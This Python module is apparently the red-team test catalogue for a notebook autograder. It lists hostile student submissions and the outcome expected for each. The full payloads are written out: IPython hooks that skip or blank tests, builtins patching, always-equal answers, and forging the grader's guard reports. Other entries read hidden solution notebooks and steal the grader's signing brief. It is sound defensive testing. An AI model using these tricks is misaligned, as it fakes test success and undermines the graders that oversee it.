"""The red-team catalogue: hostile, broken and malformed submissions of the plain-Python course, each
with the exact outcome the grading command must produce (issue "Grading you can trust").

Every attack is plain data: a name, its class, what it does (``doc``), a function building the
submitted files from the released notebooks, and the expected outcome.  ``tests/grading/test_red_team.py``
submits them all to one course, grades them in one run of ``python -m autograder grade`` and checks
each outcome from the report, the gradebook and the autograded notebook.

Classes (the issue's numbering):

* ``inflate``   (1) code or notebook edits that would raise a score;
* ``break``     (2) code that would stop, stall or crash the run;
* ``malformed`` (3) files that are not the expected notebooks;
* ``isolation`` (4) code that looks outside its own submission (files, environment, network, processes);
* ``lost``      (5) code that tries to change what was submitted or recorded;
* ``honest``    submissions that must never be marked for review;
* ``control``   plain submissions graded among the attacks: their grades must be exactly the plain ones.

Inflation attacks are built on a WRONG or EMPTY answer (``deserved`` gives what the honest version of
that answer scores), so an attack that worked would show as points that were not deserved.  Each
expects either ``review`` (a regex that one of the report's review reasons must match; every affected
cell then scores 0 and needs manual grading) or ``review=None`` (nbgrader itself neutralises the edit:
the grade is exactly the deserved one and the submission is not marked).

The pycourse (tests/grading/fixtures/pycourse, assignment ps1):

* problem1: ``squares`` -> test_squares (2 points), ``mean`` -> test_mean (1) and test_mean_empty (1),
  ``step`` -> test_counter (1, publishes a tracker-style bundle);
* problem2: ``fizzbuzz`` -> test_fizzbuzz (3) and partial_fizzbuzz (2, nbgrader partial credit: the
  cell's result ``2 * right / 15``), ``explain`` (1, a manually graded markdown answer).
"""
from __future__ import annotations

import copy
import json
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from autograder.grading.protocol import nbgrader_md

from builders import GOOD

P1, P2 = "problem1.ipynb", "problem2.ipynb"
CELLS = {P1: ("test_squares", "test_mean", "test_mean_empty", "test_counter"),
         P2: ("test_fizzbuzz", "partial_fizzbuzz", "explain")}
POINTS = {"test_squares": 2, "test_mean": 1, "test_mean_empty": 1, "test_counter": 1, "test_fizzbuzz": 3,
          "partial_fizzbuzz": 2, "explain": 1}
MARK = "# red-team"          # first line of every cell an attack adds (how tests find it again)
SECRET_ENV = "AUTOGRADER_RED_TEAM_SECRET"   # set in the grading command's environment; no kernel may see it
SECRET_VALUE = "hunter2-must-not-leak"

# Answers with a known honest grade (the deserved points of each graded cell).
WRONG = {
    "squares": "def squares(n):\n    return [i * i for i in range(1, n + 1)]",    # off by one: test_squares 0
    "mean": "def mean(xs):\n    return sum(xs) / len(xs)",                        # no ValueError: test_mean_empty 0
    "counter": "def step(state):\n    pass",                                      # nothing updated: test_counter 0
    "fizzbuzz": ("def fizzbuzz(n):\n    if n % 3 == 0:\n        return 'Fizz'\n    if n % 5 == 0:\n"
                 "        return 'Buzz'\n    return str(n)"),                         # forgets 15: 0, partial 28/15
}


def deserved(answers: dict[str, str], notebooks=(P1, P2)) -> dict[str, float | None]:
    """The honest grade of each graded cell for ``answers`` (grade_id -> source; missing = the stub).

    ``explain`` is None when answered (manual grading), 0 when left as released; a notebook that was
    not submitted scores 0 everywhere.
    """
    def is_(cell, which):
        return answers.get(cell) == which.get(cell)

    scores = {
        "test_squares": 2.0 if is_("squares", GOOD) else 0.0,
        "test_mean": 1.0 if is_("mean", GOOD) or is_("mean", WRONG) else 0.0,
        "test_mean_empty": 1.0 if is_("mean", GOOD) else 0.0,
        "test_counter": 1.0 if is_("counter", GOOD) else 0.0,
        "test_fizzbuzz": 3.0 if is_("fizzbuzz", GOOD) else 0.0,
        "partial_fizzbuzz": 2.0 if is_("fizzbuzz", GOOD) else (2 * 14 / 15 if is_("fizzbuzz", WRONG) else 0.0),
        "explain": None if "explain" in answers else 0.0,
    }
    for name, cells in CELLS.items():
        if name not in notebooks:
            scores.update({c: 0.0 for c in cells})
    return scores


EMPTY: dict[str, str] = {}
GOOD1 = {k: GOOD[k] for k in ("squares", "mean", "counter")}
GOOD2 = {k: GOOD[k] for k in ("fizzbuzz", "explain")}


# -- building notebooks ---------------------------------------------------------------------------

def code(source: str, **metadata) -> nbformat.NotebookNode:
    """A new code cell (as a student would add it), its first line the red-team mark (its second after a
    cell magic's `%%` line, which must come first)."""
    source = textwrap.dedent(source).strip("\n")
    if source.startswith("%%"):
        first, _, rest = source.partition("\n")
        cell = nbformat.v4.new_code_cell(f"{first}\n{MARK}\n{rest}")
    else:
        cell = nbformat.v4.new_code_cell(f"{MARK}\n{source}")
    cell.metadata.update(metadata)
    return cell


def grade_id(cell) -> str | None:
    return nbgrader_md(cell).get("grade_id")


def index_of(nb, gid: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid)


def build(release: nbformat.NotebookNode, answers: dict[str, str] | None = None,
          cells: list[tuple[str, str]] = (), edit: Callable | None = None) -> nbformat.NotebookNode:
    """A submitted notebook: ``answers`` in its solution cells, ``cells`` added (anchor, source), then ``edit``.

    Anchors: ``start``, ``end``, ``before:<grade_id>``, ``after:<grade_id>``.
    """
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        if grade_id(cell) in (answers or {}):
            cell.source = answers[grade_id(cell)]
    for anchor, source in cells:
        new = code(source)
        if anchor == "start":
            nb.cells.insert(0, new)
        elif anchor == "end":
            nb.cells.append(new)
        else:
            where, _, gid = anchor.partition(":")
            i = index_of(nb, gid)
            nb.cells.insert(i if where == "before" else i + 1, new)
    if edit is not None:
        edit(nb)
    return nb


def dump(nb) -> bytes:
    return nbformat.writes(nb).encode()


class Symlink(str):
    """A submitted file that is a symbolic link to this (formatted) path."""


# -- the catalogue --------------------------------------------------------------------------------

@dataclass
class Attack:
    name: str
    klass: str                        # inflate | break | malformed | isolation | lost | honest | control
    doc: str
    files: Callable[[dict, dict], dict[str, bytes]]   # (release notebooks, context) -> submitted files
    deserved: dict[str, float | None]                  # grade_id -> honest grade of the answers it carries
    review: str | None = None         # regex one review reason must match; None: must not be marked
    status: str = "graded"            # or "failed" (the whole submission could not be graded)
    reason: str | None = None         # regex for a failed submission's reason (it must also name student and file)
    errors: dict[str, str] = field(default_factory=dict)   # "attack" (the first added cell) or a grade_id -> regex
    outputs: dict[str, str] = field(default_factory=dict)  # "attack" -> regex its printed output must match
    gains: bool | None = None         # True: nbgrader alone would have awarded points (the withheld score > 0)
    warnings: str | None = None       # regex one of the report's warnings must match
    runs: tuple[str, ...] = ("main",)  # the grading runs it is part of: main (namespaces), bare (--sandbox none)
    bare: dict = field(default_factory=dict)   # what differs in the bare run (field -> value)
    hole: str | None = None           # an open hole: the expected outcome is not met yet (why, and where to fix)

    def in_run(self, run: str) -> Attack:
        """This attack's expectations in ``run``."""
        from dataclasses import replace

        return replace(self, **self.bare) if run == "bare" else self

    @property
    def student(self) -> str:
        return self.name


def notebook(which: str, answers=None, cells=(), edit=None):
    """files(): one notebook of the assignment, built from the release."""
    def files(release, ctx):
        return {which: dump(build(release[which], answers, cells, edit))}
    return files


def both(answers1=None, answers2=None, cells1=(), cells2=(), edit1=None, edit2=None, extra=None):
    def files(release, ctx):
        out = {P1: dump(build(release[P1], answers1, cells1, edit1)),
               P2: dump(build(release[P2], answers2, cells2, edit2))}
        out.update(extra(ctx) if callable(extra) else (extra or {}))
        return out
    return files


def raw(data: dict[str, bytes] | Callable):
    def files(release, ctx):
        return data(release, ctx) if callable(data) else dict(data)
    return files


def p1(answers=EMPTY) -> dict:
    return deserved(answers, (P1,))


def p2(answers=EMPTY) -> dict:
    return deserved(answers, (P2,))


SHELL_REVIEW = r"IPython shell|get_ipython"
# Used by the error-hiding attacks: nbgrader records the kernel's `error` reply even without an error
# output, so hiding a failure also takes clearing the cell's error before the kernel replies.
CLEAR_ERRORS = (
    "ip = get_ipython()\n"
    "def clear(result):\n"
    "    result.error_in_exec = result.error_before_exec = None\n"
    "ip.events.register('post_run_cell', clear)\n")
NOT_RUN = r"did not run under the grader's guard"
# nbgrader's own validation refuses some edited notebooks outright: the whole submission fails (nothing earned)
NBGRADER_REFUSES = r"nbgrader could not autograde the submission: .*(metadata may be corrupted|old version|error processing)"
HIDDEN = r"failure was hidden|did not run under the grader's guard"
# The kernel-side grading modules (issue 19's attacks rebind them from the notebook) and an always-equal answer
# from a type()-built class whose methods the notebook wrote (i27's).
GUARD_MODULE = "autograder.grading.kernel.guard"
KERNEL_MODULES = ("autograder.grading.kernel.guard", "autograder.grading.kernel.sandbox",
                  "autograder.grading.kernel.template", "autograder.grading.protocol")
ANYTHING = """
Anything = type('Anything', (list,), {'__' + name + '__': method for name, method in [
    ('eq', lambda self, other: True), ('get' + 'item', lambda self, index: Anything())]})
def squares(n):
    return Anything()"""
# A student's `autograder` package (i43): it records that it ran and what it could read, then gets out of the way.
SHADOW_PACKAGE = """
import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
try:
    fd = int(os.environ.get('AUTOGRADER_BRIEF_FD', '-1'))
    stolen = os.pread(fd, 1 << 22, 0) if fd >= 0 else b''
    with open('pwned.txt', 'ab') as fh:
        fh.write(b'ran before the guard; brief: ' + stolen[:200] + b'\\n')
except Exception:
    pass
# hand over to the real package, so that grading goes on as if nothing happened
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != os.path.dirname(here)]
del sys.modules[__name__]
sys.modules[__name__] = importlib.import_module(__name__)
"""


def _meta(gid: str, **changes):
    def edit(nb):
        md = nb.cells[index_of(nb, gid)].metadata.nbgrader
        for k, v in changes.items():
            if v is None:
                md.pop(k, None)
            else:
                md[k] = v
    return edit


def _source(gid: str, source: str):
    def edit(nb):
        nb.cells[index_of(nb, gid)].source = source
    return edit


def _chain(*edits):
    def edit(nb):
        for e in edits:
            e(nb)
    return edit


def _with_source(cell, source: str):
    new = copy.deepcopy(cell)
    new.source = source
    return new


def _delete(gid: str):
    def edit(nb):
        del nb.cells[index_of(nb, gid)]
    return edit


def _fake_outputs(nb):
    """Pre-filled outputs claiming success: no error anywhere, full partial credit."""
    for cell in nb.cells:
        if cell.cell_type == "code" and grade_id(cell) in POINTS:
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="all tests passed\n")]
            if grade_id(cell) == "partial_fizzbuzz":
                cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "2.0"},
                                                       execution_count=3)]
            cell.execution_count = 3


INFLATE: list[Attack] = [
    # -- changing how IPython runs the cells after this one ------------------------------------
    Attack("i01_transformer_cleanup", "inflate",
           "an input transformer (cleanup stage) turns every later cell into `pass`: the tests never run",
           notebook(P1, cells=[("start", "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i02_transformer_post", "inflate",
           "an input transformer (post stage) empties every cell that holds an assert or calls the guard",
           notebook(P1, cells=[("start", """
               def blank(lines):
                   text = ''.join(lines)
                   return ['pass\\n'] if 'assert' in text or '__autograder_guard__' in text else lines
               get_ipython().input_transformers_post.append(blank)""")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i03_transformer_weakens_asserts", "inflate",
           "an input transformer rewrites `assert x` into `assert True or x` (the classic attack on plain nbgrader)",
           notebook(P1, cells=[("start", """
               get_ipython().input_transformers_cleanup.append(
                   lambda lines: [l.replace('assert ', 'assert True or ') for l in lines])""")]),
           p1(), review=SHELL_REVIEW),
    Attack("i04_ast_transformer_pass", "inflate",
           "an AST transformer replaces every later cell by an empty module",
           notebook(P1, cells=[("start", """
               import ast
               class Nothing(ast.NodeTransformer):
                   def visit_Module(self, node):
                       return ast.Module(body=[ast.Pass()], type_ignores=[])
               get_ipython().ast_transformers.append(Nothing())""")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i05_ast_transformer_drops_asserts", "inflate",
           "an AST transformer deletes every assert statement of the cells after it",
           notebook(P1, cells=[("start", """
               import ast
               class NoAsserts(ast.NodeTransformer):
                   def visit_Assert(self, node):
                       return ast.Pass()
               get_ipython().ast_transformers.append(NoAsserts())""")]),
           p1(), review=SHELL_REVIEW),
    Attack("i06_run_cell_patched", "inflate",
           "InteractiveShell.run_cell replaced: cells that assert or call the guard run `pass` instead",
           notebook(P1, cells=[("start", """
               ip = get_ipython()
               real_run_cell = ip.run_cell
               def run_cell(raw_cell, *args, **kwargs):
                   if 'assert' in raw_cell or '__autograder_guard__' in raw_cell:
                       raw_cell = 'pass'
                       kwargs.pop('transformed_cell', None)
                   return real_run_cell(raw_cell, *args, **kwargs)
               ip.run_cell = run_cell""")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i07_run_cell_async_patched", "inflate",
           "run_cell_async and should_run_async replaced: every later cell goes through the async path and runs `pass`",
           notebook(P1, cells=[("start", """
               ip = get_ipython()
               real = ip.run_cell_async
               async def run_cell_async(raw_cell, *args, **kwargs):
                   kwargs['transformed_cell'] = 'pass\\n'
                   return await real('pass', *args, **kwargs)
               ip.run_cell_async = run_cell_async
               ip.should_run_async = lambda *args, **kwargs: True""")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i08_run_code_patched", "inflate",
           "run_code replaced by a coroutine that runs nothing and reports success",
           notebook(P1, cells=[("start", """
               ip = get_ipython()
               async def run_code(code_obj, result=None, *, async_=False):
                   return False
               ip.run_code = run_code""")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i09_showtraceback_silenced", "inflate",
           "showtraceback replaced by a no-op and a post_run_cell callback clears the cell's error: failing tests "
           "show no error and the kernel replies `ok`, so nbgrader would give full points",
           notebook(P1, answers=WRONG, cells=[("start", CLEAR_ERRORS + "ip.showtraceback = lambda *args, **kwargs: None")]),
           p1(WRONG), review=HIDDEN, gains=True),
    Attack("i10_private_showtraceback_silenced", "inflate",
           "the kernel's _showtraceback (which sends the error message) replaced, errors cleared after each cell",
           notebook(P1, cells=[("start", CLEAR_ERRORS + "ip._showtraceback = lambda etype, evalue, stb: None")]),
           p1(), review=HIDDEN, gains=True),
    Attack("i11_custom_exception_handler", "inflate",
           "IPython's documented set_custom_exc swallows every exception, errors cleared after each cell",
           notebook(P1, cells=[("start", CLEAR_ERRORS + "ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)")]),
           p1(), review=HIDDEN, gains=True),
    Attack("i12_traceback_hidden_only", "inflate",
           "showtraceback silenced, nothing else: the kernel still replies `error` and nbgrader records it",
           notebook(P1, cells=[("start", "get_ipython().showtraceback = lambda *args, **kwargs: None")]),
           p1(), review=SHELL_REVIEW),
    Attack("i13_event_rewrites_raw_cell", "inflate",
           "a pre_run_cell callback empties the cell text it is given (IPython runs its own copy: no effect)",
           notebook(P1, cells=[("start", """
               def rewrite(info):
                   info.raw_cell = 'pass'
               get_ipython().events.register('pre_run_cell', rewrite)""")]),
           p1(), review=SHELL_REVIEW),
    Attack("i14_shell_via_exit_hides_errors", "inflate",
           "the shell reached without naming get_ipython (`exit._ip`): its session drops every error message and "
           "a post_run_cell callback clears the error",
           notebook(P1, cells=[("start", """
               shell = exit._ip
               session = shell.displayhook.session
               real_send = session.send
               def send(stream, msg_or_type, *args, **kwargs):
                   if msg_or_type == 'error':
                       return None
                   return real_send(stream, msg_or_type, *args, **kwargs)
               session.send = send
               def clear(result):
                   result.error_in_exec = result.error_before_exec = None
               shell.events.register('post_run_cell', clear)""")]),
           p1(), review=HIDDEN, gains=True),
    # -- partial credit: nbgrader reads the test cell's displayed result ------------------------
    Attack("i15_displayhook_silenced", "inflate",
           "sys.displayhook replaced by a no-op (IPython puts its own back for each cell: no effect, but reported)",
           notebook(P2, cells=[("start", "import sys\nsys.displayhook = lambda value: None")]),
           p2(), review=r"sys\.displayhook", gains=False),
    Attack("i16_display_quiet", "inflate",
           "the shell's displayhook told to stay quiet (reached through `exit._ip`): no result, full credit",
           notebook(P2, cells=[("start", "exit._ip.displayhook.quiet = lambda *args: True")]),
           p2(), review=r"result", gains=True),
    Attack("i17_float_formatter", "inflate",
           "the text/plain formatter prints every float as 2.0: the partial-credit cell shows full marks",
           notebook(P2, cells=[("start", """
               exit._ip.display_formatter.formatters['text/plain'].for_type(float, lambda obj, p, cycle: p.text('2.0'))""")]),
           p2(), review=r"result", gains=True),
    # -- builtins, names and modules the tests rely on -------------------------------------------
    Attack("i18_builtins_module", "inflate",
           "`import builtins; builtins.ValueError = Exception`: `except ValueError` catches the stub's NotImplementedError",
           notebook(P1, cells=[("start", "import builtins\nbuiltins.ValueError = Exception")]),
           p1(), review=r"builtins\.ValueError was replaced", gains=False),
    Attack("i19_builtins_dunder", "inflate",
           "the same through the notebook's `__builtins__`",
           notebook(P1, cells=[("start", "__builtins__.ValueError = Exception")]),
           p1(), review=r"builtins\.ValueError was replaced", gains=False),
    Attack("i20_builtins_obfuscated", "inflate",
           "the same through getattr/setattr on `__import__('bui' + 'ltins')`",
           notebook(P1, cells=[("start", "setattr(__import__('bui' + 'ltins'), 'Value' + 'Error', Exception)")]),
           p1(), review=r"builtins\.ValueError was replaced", gains=False),
    Attack("i21_builtins_via_print_self", "inflate",
           "the builtins module reached as `print.__self__` (no suspicious name in the source)",
           notebook(P1, cells=[("start", "print.__self__.ValueError = Exception")]),
           p1(), review=r"builtins\.ValueError was replaced", gains=False),
    Attack("i22_builtins_patch_and_restore", "inflate",
           "the answer patches builtins.ValueError only while the test runs and a weakref finalizer restores it "
           "when the test drops the exception, so no snapshot before or after the test sees the change",
           notebook(P1, answers={"mean": """
               import weakref
               REAL_VALUE_ERROR = ValueError
               class Gone(NotImplementedError):
                   pass
               def restore():
                   print.__self__.ValueError = REAL_VALUE_ERROR
               def mean(xs):
                   if not xs:
                       print.__self__.ValueError = Exception
                       err = Gone('restored when the test drops me')
                       weakref.finalize(err, restore)
                       try:
                           raise err
                       finally:
                           del err   # no cycle through this frame: the exception dies with the test's handler
                   raise NotImplementedError()"""}),
           p1(), review=r"builtins\.ValueError was replaced", gains=False),
    Attack("i23_rebinds_test_name", "inflate",
           "the answer cell rebinds `ValueError`, a name the tests use",
           notebook(P1, answers={"mean": "ValueError = NotImplementedError\ndef mean(xs):\n    raise NotImplementedError()"}),
           p1(), review=r"rebinds `ValueError`", gains=True),
    Attack("i24_shadows_builtin_in_namespace", "inflate",
           "`ValueError` shadowed in the notebook's namespace through the shell's user_ns (no assignment to the name)",
           notebook(P1, cells=[("start", "exit._ip.user_ns['Value' + 'Error'] = Exception")]),
           p1(), review=r"ValueError", gains=True),
    Attack("i25_rebinds_dict", "inflate",
           "`dict` rebound so that the test's `before = dict(state)` remembers a different w: `step` that does "
           "nothing looks like it updated w",
           notebook(P1, answers={"counter": "def step(state):\n    pass"},
                    cells=[("before:counter", "dict = lambda d: {'w': d['w'] + 1, 'b': d['b']}")]),
           p1({"counter": WRONG["counter"]}), review=r"'dict' the tests use is shadowed", gains=True),
    Attack("i26_always_equal", "inflate",
           "the answer returns an object equal to anything: every `==` in the tests holds",
           notebook(P1, answers={"squares": """
               class Anything(list):
                   def __eq__(self, other):
                       return True
                   def __getitem__(self, index):
                       return Anything()
               def squares(n):
                   return Anything()"""}),
           p1(), review=r"__eq__", gains=True),
    Attack("i27_always_equal_dynamic", "inflate",
           "the same class built with type() and computed method names (nothing to read in the source)",
           notebook(P1, answers={"squares": """
               Anything = type('Anything', (list,), {'__' + name + '__': method for name, method in [
                   ('eq', lambda self, other: True), ('get' + 'item', lambda self, index: Anything())]})
               def squares(n):
                   return Anything()"""}),
           # nothing in the source names __eq__: the guard finds the class among those the notebook created
           p1(), review=r"__eq__|compares equal", gains=True),
    # -- tracing, introspection, the guard itself ---------------------------------------------
    Attack("i28_settrace_skips_asserts", "inflate",
           "sys.settrace: a trace function jumps over every assert line of the code it traces",
           notebook(P1, answers=WRONG, cells=[("start", """
               import sys, linecache
               def tracer(frame, event, arg):
                   if event == 'line':
                       line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
                       if line.startswith('assert'):
                           later = sorted(l for _, _, l in frame.f_code.co_lines() if l and l > frame.f_lineno)
                           if later:
                               try:
                                   frame.f_lineno = later[0]
                               except ValueError:
                                   pass
                   return tracer
               sys.settrace(tracer)""")]),
           p1(WRONG), review=r"settrace|trace function"),
    Attack("i29_setprofile", "inflate",
           "sys.setprofile watches every call the tests make",
           notebook(P1, cells=[("start", "import sys\nsys.setprofile(lambda frame, event, arg: None)")]),
           p1(), review=r"setprofile|profile function"),
    Attack("i30_gc_hunts_the_guard", "inflate",
           "gc.get_objects() to find the guard's functions and their secrets",
           notebook(P1, cells=[("start", """
               import gc
               found = [o for o in gc.get_objects() if callable(o) and getattr(o, '__name__', '') in ('send', 'integrity')]
               print(len(found))""")]),
           p1(), review=r"gc\.get_objects"),
    Attack("i31_forged_channel_lines", "inflate",
           "writes report-shaped lines (with a made-up MAC) to every pipe it holds, hoping one is the grader's",
           notebook(P1, cells=[("start", """
               import os
               line = b'{"grade_id":"test_squares","kind":"result","seq":2,"status":"ok"} ' + b'0' * 64 + b'\\n'
               put = getattr(os, 'wr' + 'ite')
               for fd in range(3, 256):
                   try:
                       if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):
                           put(fd, line)
                   except OSError:
                       pass""")]),
           p1(), review=r"authenticity"),
    Attack("i32_calls_the_guard", "inflate",
           "calls __autograder_guard__ directly with a made-up test id",
           notebook(P1, cells=[("start", """
               try:
                   __autograder_guard__('0' * 24)
               except Exception as err:
                   print(type(err).__name__)""")]),
           p1(), review=r"unknown test"),
    Attack("i33_fake_guard_in_builtins", "inflate",
           "replaces __autograder_guard__ in builtins by a function that does nothing",
           notebook(P1, cells=[("start", "print.__self__.__autograder_guard__ = lambda nonce: None")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i34_fake_guard_in_namespace", "inflate",
           "defines its own __autograder_guard__ in the notebook's namespace",
           notebook(P1, cells=[("start", "def __autograder_guard__(nonce):\n    return None")]),
           p1(), review=NOT_RUN, gains=True),
    Attack("i35_guard_call_swallowed", "inflate",
           "a guard-aware transformer wraps each guarded test in try/except: the test runs, fails, and shows nothing",
           notebook(P1, cells=[("start", """
               def swallow(lines):
                   text = ''.join(lines)
                   if '__autograder_guard__' not in text:
                       return lines
                   return ['try:\\n', '    ' + text.strip() + '\\n', 'except BaseException:\\n', '    pass\\n']
               exit._ip.input_transformers_cleanup.append(swallow)""")]),
           p1(), review=HIDDEN, gains=True),
    Attack("i36_guard_closure_forgery", "inflate",
           "takes the guard's own report-sending function out of its closure (getattr with a computed name) and "
           "forges a passing report for each test, whose call a transformer removes",
           notebook(P1, cells=[("start", """
               import re
               stolen, forged = {}, set()
               def explore(values, depth=0):
                   for value in values:
                       if callable(value) and getattr(value, '__name__', '') == 'send':
                           stolen['send'] = value
                       if hasattr(value, 'items') and value and all(type(k) is str and len(k) == 24 for k in value):
                           stolen['tests'] = value
                       owner = getattr(value, '__self__', None)   # a generator's send: look inside the generator
                       frame = getattr(owner, 'gi_fr' + 'ame', None) if depth < 2 else None
                       if frame is not None:
                           explore(getattr(frame, 'f_lo' + 'cals').values(), depth + 1)
                       for cell in (getattr(value, '__clo' + 'sure__', None) or ()) if depth < 2 else ():
                           explore([cell.cell_contents], depth + 1)
               explore([__autograder_guard__])
               def forge(lines):
                   m = re.search(r'__autograder_guard__\\("([0-9a-f]+)"\\)', ''.join(lines))
                   if not m or len(stolen) < 2:
                       return lines
                   nonce = m.group(1)
                   if nonce in forged:   # IPython transforms a cell more than once
                       return ['pass\\n']
                   forged.add(nonce)
                   gid = stolen['tests'][nonce][0]
                   stolen['send']({'kind': 'start', 'nonce': nonce, 'grade_id': gid, 'problems': []})
                   stolen['send']({'kind': 'result', 'nonce': nonce, 'grade_id': gid, 'status': 'ok', 'problems': []})
                   return ['pass\\n']
               exit._ip.input_transformers_cleanup.append(forge)
               print(sorted(stolen))""")]),
           p1(), review=r"gi_frame", gains=False),
    Attack("i37_guard_frame_forgery", "inflate",
           "the answer, called by the first test, walks up the stack (logging.currentframe) to the guard's frame, "
           "takes its report-sending function and forges passing reports for the later tests",
           notebook(P1, answers={"squares": """
               import logging, re
               stolen, forged = {}, set()
               def squares(n):
                   frame = logging.currentframe()
                   while frame is not None:
                       seen = getattr(frame, 'f_lo' + 'cals')
                       if callable(seen.get('send')) and 'send' not in stolen:
                           stolen['send'] = seen['send']
                       if hasattr(seen.get('tests'), 'items'):
                           stolen['tests'] = seen['tests']
                       frame = getattr(frame, 'f_ba' + 'ck')
                   raise NotImplementedError()
               def forge(lines):
                   m = re.search(r'__autograder_guard__\\("([0-9a-f]+)"\\)', ''.join(lines))
                   if not m or 'send' not in stolen:
                       return lines
                   nonce = m.group(1)
                   if nonce in forged:   # IPython transforms a cell more than once
                       return ['pass\\n']
                   forged.add(nonce)
                   gid = stolen['tests'][nonce][0] if 'tests' in stolen else 'test'
                   
                   stolen['send']({'kind': 'start', 'nonce': nonce, 'grade_id': gid, 'problems': []})
                   stolen['send']({'kind': 'result', 'nonce': nonce, 'grade_id': gid, 'status': 'ok', 'problems': []})
                   return ['pass\\n']
               exit._ip.input_transformers_cleanup.append(forge)"""}),
           p1(), review=r"sys\._getframe .*via .*logging|used from outside the guard", gains=True),
    Attack("i44_guard_frame_unreported_route", "inflate",
           "the answer, called by the first test, reaches the guard's frame through a helper that returns "
           "frames without going through an audited call (IPython.utils.frame, found via exit._ip and "
           "__globals__), then asks the guard's test store for the other tests (hidden ones included)",
           notebook(P1, answers={"squares": """
               import re
               loot = []
               def squares(n):
                   shell_globals = getattr(type(exit._ip).__init__, '__glo' + 'bals__')
                   frames = shell_globals['sys'].modules['IPython.utils.frame']
                   nonces = re.findall(r'__autograder_guard__\\("([0-9a-f]+)"\\)', ' '.join(exit._ip.user_ns['In']))
                   for depth in range(1, 12):
                       try:
                           seen = frames.extract_module_locals(depth)[1]
                       except Exception:
                           continue
                       for value in list(seen.values()):
                           if callable(value) and getattr(value, '__name__', '') == 'send':
                               for nonce in nonces:
                                   try:
                                       got = value(nonce)
                                   except Exception:
                                       got = None
                                   if got is not None and hasattr(got, '__len__') and len(got) > 3:
                                       loot.append(got)
                   raise NotImplementedError()""", "mean": """
               def mean(xs):
                   print('LOOT' if loot else 'NO OTHER TEST')
                   raise NotImplementedError()"""}),
           p1(), review=r"asked for from outside the guard", outputs={"test_mean": r"NO OTHER TEST"}),
    Attack("i38_hidden_tests_from_linecache", "inflate",
           "reads every test's source (hidden tests included) from linecache before any test ran",
           notebook(P1, cells=[("start", """
               import linecache
               leaked = [k for k in list(linecache.cache) if 'test' in str(k) and not str(k).startswith('/')]
               text = ''.join(''.join(linecache.cache[k][2]) for k in leaked)
               print('LEAKED' if 'squares(5)' in text else 'nothing', len(leaked))""")]),
           p1(), review=None, outputs={"attack": r"^nothing"}),
    # -- the hidden tests and solutions on disk -----------------------------------------------
    Attack("i39_reads_source_absolute", "inflate",
           "opens the instructor's source notebook by the course directory's absolute path and imports its solution "
           "(after the squares cell: the leaked squares is the one test_squares sees)",
           notebook(P1, cells=[("after:squares", """
               import json
               try:
                   src = json.load(open({source!r}))
                   code = [''.join(c['source']) for c in src['cells'] if c['metadata'].get('nbgrader', {{}}).get('solution')]
                   with open('cheat.py', 'w') as fh:
                       fh.write('\\n'.join(code))
                   from cheat import *
                   print('LEAKED')
               except Exception as err:
                   print('BLOCKED', type(err).__name__)""")]),
           p1(), review=r"protected path", outputs={"attack": r"BLOCKED"}, runs=("main", "bare"),
           # without namespaces the read succeeds: it is reported, and the points it would buy are withheld
           bare={"outputs": {"attack": r"LEAKED"}, "gains": True}),
    Attack("i40_reads_source_relative", "inflate",
           "looks for the source notebook and gradebook relative to its working directory and in every /tmp course",
           notebook(P1, cells=[("start", """
               import glob
               found = []
               for pattern in ['../source/ps1/*.ipynb', '../../source/ps1/*.ipynb', '../../../source/ps1/*.ipynb',
                               '/tmp/*/source/ps1/*.ipynb', '/tmp/*/gradebook.db', '../../*/source/ps1/*.ipynb']:
                   for path in glob.glob(pattern):
                       try:
                           open(path, 'rb').read(10)
                           found.append(path)
                       except OSError:
                           pass
               print('LEAKED' if found else 'BLOCKED', found)""")]),
           p1(), review=None, outputs={"attack": r"BLOCKED"}, runs=("main", "bare"),
           bare={"outputs": {"attack": r"LEAKED"}, "review": r"protected path /tmp/grade-ps1-"}),
    Attack("i41_reads_repository_solutions", "inflate",
           "reads this repository's solutions/ (found through autograder.paths)",
           notebook(P1, cells=[("start", """
               from autograder import paths
               try:
                   print('LEAKED', len(open(str(paths.SOLUTIONS / 'lesson01_variables' / 'lesson01_variables.ipynb')).read()))
               except OSError as err:
                   print('BLOCKED', type(err).__name__)""")]),
           p1(), review=r"protected path", outputs={"attack": r"BLOCKED"}),
    Attack("i42_writes_hidden_and_grader", "inflate",
           "tries to append to the source notebook, the guard's code and nbgrader's grading function",
           notebook(P1, cells=[("start", """
               import os, sys, autograder
               version = f'python{{sys.version_info[0]}}.{{sys.version_info[1]}}'
               results = []
               for path in [{source!r}, os.path.join(os.path.dirname(autograder.__file__), 'grading', 'kernel', 'guard.py'),
                            os.path.join(sys.prefix, 'lib', version, 'site-packages', 'nbgrader', 'utils.py')]:
                   try:
                       with open(path, 'a') as fh:
                           fh.write('\\n# red team was here\\n')
                       results.append('WROTE')
                   except OSError as err:
                       results.append(type(err).__name__)
               print(results)""")]),
           p1(), review=r"open for writing|open protected path", outputs={"attack": r"^(?!.*WROTE)"}),
    Attack("i43_shadows_the_grader_package", "inflate",
           "submits its own `autograder/` package: if the kernel's Python started with the submission's folder "
           "first on sys.path, this code would run before the guard (and outside the sandbox) and read the "
           "grader's brief: hidden tests and the key that signs the reports",
           raw(lambda release, ctx: {
               P1: dump(build(release[P1], cells=[("start", """
                   import os
                   print('PWNED' if os.path.exists('pwned.txt') else 'CLEAN', sorted(os.listdir('.')))""")])),
               "autograder/__init__.py": SHADOW_PACKAGE.encode()}),
           p1(), review=None, outputs={"attack": r"^CLEAN"}, runs=("main", "bare")),
